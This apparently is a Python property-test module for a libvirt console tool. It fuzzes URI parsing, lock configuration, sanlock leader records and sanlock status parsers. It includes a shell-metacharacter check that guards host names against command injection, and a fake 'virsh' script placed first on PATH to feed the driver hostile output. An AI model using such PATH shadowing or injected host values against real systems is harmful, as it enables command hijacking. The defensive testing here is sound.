             conf(file_lockspace_dir=lockd_dir))
    config = only(LibvirtConfError, lock_config, *texts)
    if config is None:
        return
    assert isinstance(config, LockConfig)
    assert config.manager == (manager or "nop")
    assert auto in (0, 1) and config.auto_disk_leases is bool(auto)  # libvirt: "must be 0 or 1"
    assert config.host_id == host_id and config.disk_lease_dir == lease_dir
    assert config.file_lockspace_dir == lockd_dir


def _plain(value: object) -> str:
    if isinstance(value, list):
        return "[" + ", ".join(_plain(v) for v in value) + "]"
    if isinstance(value, str):
        quote = "'" if "'" not in value else '"' if '"' not in value else '"""'
        return f"{quote}{value}{quote}"
    return str(value)


# == URIs =============================================================================================
@FUZZ
@given(st.one_of(any_text, st.lists(st.sampled_from(["qemu", "test", "+ssh", "+tls", "+bogus", "://", ":/", "/",
                                                     "@", "root", "[", "]", "::1", ":", "22", "²", "٣", "0", "65536",
                                                     "?", "&", "=", "#", "%", "%00", "%zz", "system", " ", "\n",
                                                     "host_id", "lease_dir", "keyfile", "no_verify"]),
                                    max_size=16).map("".join)))
@example("qemu+ssh://h:²/system")
@example("qemu+ssh://h:٣٣/system")
def test_uris_parse_or_raise_invalid_uri(text):
    uri = only(InvalidURI, parse_uri, text)
    if uri is not None:
        assert isinstance(uri, LibvirtURI)
        assert uri.port is None or 0 < uri.port < 65536
        assert uri.transport in KNOWN_TRANSPORTS | {""}


clean = st.text(st.characters(codec="utf-8"), max_size=15)


@FUZZ
@given(driver=st.from_regex(r"[A-Za-z][A-Za-z0-9]{0,8}", fullmatch=True),
       transport=st.sampled_from(sorted(KNOWN_TRANSPORTS) + [""]),
       user=clean.filter(lambda u: ":" not in u),  # a ':' in the user part, even escaped, is a password
       host=st.one_of(st.just(""), st.from_regex(r"[\w.][\w.-]{0,14}", fullmatch=True)),
       port=st.one_of(st.none(), st.integers(1, 65535)),
       path=clean.filter(lambda p: "@" not in p),  # '@' after a port: a password with '/' in it, refused
       params=st.lists(st.tuples(clean.filter(lambda k: k and "@" not in k), clean), max_size=4))
def test_well_formed_uris_parse_back_every_part(driver, transport, user, host, port, path, params):
    quoted_path = "/" + urllib.parse.quote(path, safe="/") if path else ""
    text = (f"{driver}{'+' + transport if transport else ''}://"
            f"{urllib.parse.quote(user, safe='') + '@' if user else ''}{urllib.parse.quote(host, safe='')}"
            f"{':' + str(port) if port else ''}{quoted_path}"
            f"{'?' + urllib.parse.urlencode(params, quote_via=urllib.parse.quote) if params else ''}")
    uri = parse_uri(text)
    assert (uri.driver, uri.transport, uri.user, uri.host, uri.port) == (driver.lower(), transport, user, host, port)
    assert uri.path == ("/" + path if quoted_path else "")
    assert list(uri.params) == params


@FUZZ
@given(host=clean)
def test_any_host_text_is_that_host_or_refused(host):
    """A host part is a host name or address, or the URI is refused: never a shell word (Match exec)."""
    try:
        uri = parse_uri(f"qemu+ssh://{urllib.parse.quote(host, safe='')}/system")
    except InvalidURI as exc:
        assert "is not a host name or address" in str(exc)
    else:
        assert uri.host == host and not set(host) & set(" ;|&$`'\"<>()\n\t*?!#~{}[]=/")


@FUZZ
@given(st.one_of(any_text,
                 st.tuples(st.sampled_from(["test", "qemu", "lxc", "bogus", "TEST"]),
                           st.sampled_from(["", "+ssh", "+libssh", "+tls", "+unix", "+nope"]),
                           st.sampled_from(["", "root@", "a b@", "%00@"]),
                           st.sampled_from(["", "hv1", "[::1]", "h:22", "h:²", "h:٣"]),
                           st.sampled_from(["", "/", "/default", "/system", "/no/such/node.xml", "/%00"]),
                           st.sampled_from(["", "?host_id=2", "?host_id=x", "?host_id=", "?lease_dir=/x&host_id=01",
                                            "?keyfile=/nope&known_hosts=/nope&no_verify=1", "?socket=/x"]))
                 .map("".join)))
def test_any_configured_uri_gives_a_driver_never_an_exception(text):
    """The console opens one driver per configured URI before anything is shown: none may raise."""
    driver = open_driver_or_placeholder(text)
    try:
        assert isinstance(driver, Driver) and driver.uri == text
        if isinstance(driver, UnavailableDriver):
            with pytest.raises(InvalidURI):
                driver.connect()
    finally:
        driver.close()


@pytest.mark.parametrize("host_id", ["²", "①", "٣²"])
def test_a_unicode_digit_host_id_gives_a_placeholder_host(host_id):
    driver = open_driver_or_placeholder(f"test:///default?host_id={urllib.parse.quote(host_id)}")
    assert isinstance(driver, UnavailableDriver)


# == sanlock leader records ===========================================================================
lease_name = st.text(max_size=20).filter(lambda s: "\x00" not in s and len(s.encode()) <= 48)


@FUZZ
@given(st.binary(max_size=600), st.sampled_from([0x06152010, 0x12212010]))
def test_leader_of_arbitrary_bytes_is_a_record_or_a_leader_error(raw, magic):
    record = only(LeaderError, parse_leader, raw, magic=magic)
    if record is not None:
        assert len(raw) >= LEADER_SIZE and record.magic == magic
    else:
        assert len(raw) < LEADER_SIZE or struct.unpack_from("<I", raw)[0] != magic


record_fields = st.fixed_dictionaries({
    "space_name": lease_name, "resource_name": lease_name, "owner_id": st.integers(0, 2**64 - 1),
    "owner_generation": st.integers(0, 2**64 - 1), "lver": st.integers(0, 2**64 - 1),
    "timestamp": st.integers(0, 2**64 - 1), "sector_size": st.sampled_from([512, 4096]),
    "io_timeout": st.integers(0, 0xFFFF),
})


@FUZZ
@given(record_fields)
def test_packed_leaders_parse_back_with_a_good_checksum(fields):
    record = parse_leader(pack_leader(**fields))
    assert record.checksum_ok
    for key, value in fields.items():
        assert getattr(record, key) == value


@FUZZ
@given(record_fields, st.integers(0, 511), st.integers(1, 255), st.integers(0, 511))
def test_a_mutated_or_cut_leader_is_caught(fields, offset, flip, cut):
    raw = bytearray(pack_leader(**fields))
    good = parse_leader(bytes(raw))
    raw[offset] ^= flip
    if offset < 4:
        with pytest.raises(LeaderError, match="magic"):
            parse_leader(bytes(raw))
    else:
        record = parse_leader(bytes(raw))
        # crc32c catches every change of 1 byte in the checksummed part, and of the checksum itself
        assert record.checksum_ok is (offset >= LEADER_CHECKSUM_LEN + 4)
        if offset >= LEADER_CHECKSUM_LEN + 4:
            assert (record.owner_id, record.lver, record.timestamp, record.resource_name) == (
                good.owner_id, good.lver, good.timestamp, good.resource_name)
    short = bytes(raw[:cut])
    if cut < LEADER_SIZE:
        with pytest.raises(LeaderError, match="short"):
            parse_leader(short)


# == sanlock client status / host_status ===================================================================
@FUZZ
@given(st.one_of(any_text, st.lists(st.sampled_from(["s", "r", "p", "h", "gen", "LIVE", " ", ":", "\n", "ADD", "REM",
                                                     "timestamp", "1", "-", "--5", "²", "٣", "9" * 30, "9" * 5000,
                                                     "LS", "x"]),
                                    max_size=40).map("".join)))
@example("r a:b:c:0:1 p --5\ns ls:²:p:0\n² timestamp 5\n1 timestamp ²\n")
@example("s LS:1:p:0\nh ² gen 1 timestamp 5 LIVE\nh 1 gen -1 timestamp 5 LIVE\nh 1 gen 1\nhosts not ready\n")
def test_sanlock_status_parsers_never_raise(text):
    assert isinstance(parse_client_status(text), DaemonStatus)
    hosts = parse_host_status(text)
    assert all(isinstance(k, int) and isinstance(v, int) and k >= 0 and v >= 0 for k, v in hosts.items())
    joined, states = parse_lockspace_hosts(text.replace("x", "h"), "LS")
    assert isinstance(joined, bool) and (states is None or all(
        isinstance(k, int) and k >= 0 and state.generation >= 0 and state.timestamp >= 0
        for k, state in states.items()))


ls_name = st.from_regex(r"[A-Za-z0-9_]{1,48}", fullmatch=True)
junk_line = hostile.filter(lambda s: s.splitlines() == [s]).filter(lambda s: s.split()[0] not in ("s", "r")
                                                                     if s.split() else True).filter(
    lambda s: not (s.split() and s.split()[0].isascii() and s.split()[0].isdigit()))


@FUZZ
@given(joined=st.dictionaries(ls_name, st.integers(1, 2000), max_size=4), adding=st.sets(ls_name, max_size=2),
       held=st.dictionaries(st.tuples(ls_name, ls_name), st.integers(-1, 2**22), max_size=5),
       hosts=st.dictionaries(st.integers(1, 2000), st.integers(0, 2**40), max_size=5),
       junk=st.lists(junk_line, max_size=4))
def test_sanlock_status_parses_back_exactly(joined, adding, held, hosts, junk):
    adding -= set(joined)
    lines = ["daemon 1f6b-vthost1", "p -1 helper", "p 4242 qemu", *junk]
    lines += [f"s {ls}:{hid}:/var/lib/libvirt/sanlock/{ls}:0" for ls, hid in joined.items()]
    lines += [f"s {ls}:1:/var/lib/libvirt/sanlock/{ls}:0 ADD" for ls in adding]
    lines += [f"r {ls}:{res}:/var/lib/libvirt/sanlock/{res}:0:3 p {pid}" for (ls, res), pid in held.items()]
    status = parse_client_status("\n".join(lines) + "\n")
    assert status.lockspaces == joined and status.joining == adding
    assert status.resources == {f"{ls}:{res}": pid for (ls, res), pid in held.items()}
    text = "".join(f"{hid} timestamp {ts}\n" for hid, ts in hosts.items()) + "\n".join(junk)
    assert parse_host_status(text) == hosts


# == a hostile virsh through the real driver ==============================================================
def test_a_dumpxml_id_of_unicode_digits_is_a_typed_error(tmp_path, monkeypatch):
    real = shutil.which("virsh")
    assert real is not None
    node = tmp_path / "node.xml"
    node.write_text("<node><cpu><nodes>1</nodes><sockets>1</sockets><cores>1</cores><threads>1</threads></cpu>"
                    "<memory>1048576</memory><domain type='test'><name>vt-running</name>"
                    "<uuid>6695eb01-f6a4-8304-79aa-97f2502e193f</uuid><memory>1024</memory>"
                    "<os><type>hvm</type></os></domain></node>")
    uri = f"test://{node}"
    driver = VirshDriver(uri, parse_uri(uri), LocalTransport())
    driver.connect()
    assert [d.name for d in driver.poll().domains] == ["vt-running"]  # the real virsh works
    driver.close()
    # the same virsh, with a host that answers id='²' in the domain XML (a real process, on PATH first)
    wrapper = tmp_path / "bin" / "virsh"
    wrapper.parent.mkdir()
    wrapper.write_text(f"#!/bin/sh\n{real} \"$@\" | sed \"s/ id='[0-9]*'/ id='²'/\"\n")
    wrapper.chmod(0o755)
    monkeypatch.setenv("PATH", f"{wrapper.parent}:{os.environ['PATH']}")
    driver = VirshDriver(uri, parse_uri(uri), LocalTransport())
    driver.connect()
    try:
        driver.poll()
    except DriverError:
        pass
    finally:
        driver.close()


def test_open_driver_of_the_embedded_demo_still_works():
    """The property tests above open hundreds of drivers; a plain one still connects and polls."""
    driver = open_driver("test:///default")
    try:
        driver.connect()
        assert driver.poll().domains
    finally:
        driver.close()


def test_every_property_test_draws_the_same_examples_on_every_run() -> None:
    """conftest's profile: the unsettled tests (test_virsh, test_lockconfig) are derandomized too."""
    assert settings.default.derandomize is True
    assert settings.default.database is None
